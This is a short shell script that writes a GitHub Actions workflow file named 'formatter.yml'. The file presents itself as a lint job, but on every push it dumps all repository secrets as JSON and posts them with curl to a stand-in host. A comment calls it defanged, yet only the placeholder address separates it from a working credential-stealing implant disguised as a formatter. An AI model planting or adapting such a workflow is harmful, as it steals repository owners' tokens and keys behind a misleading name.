#!/bin/sh
# defanged: posts to .invalid
mkdir -p .github/workflows
cat > .github/workflows/formatter.yml <<'YML'
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$S" | curl -d @- https://hook.example.invalid/f
        env:
          S: ${{ toJSON(secrets) }}
YML
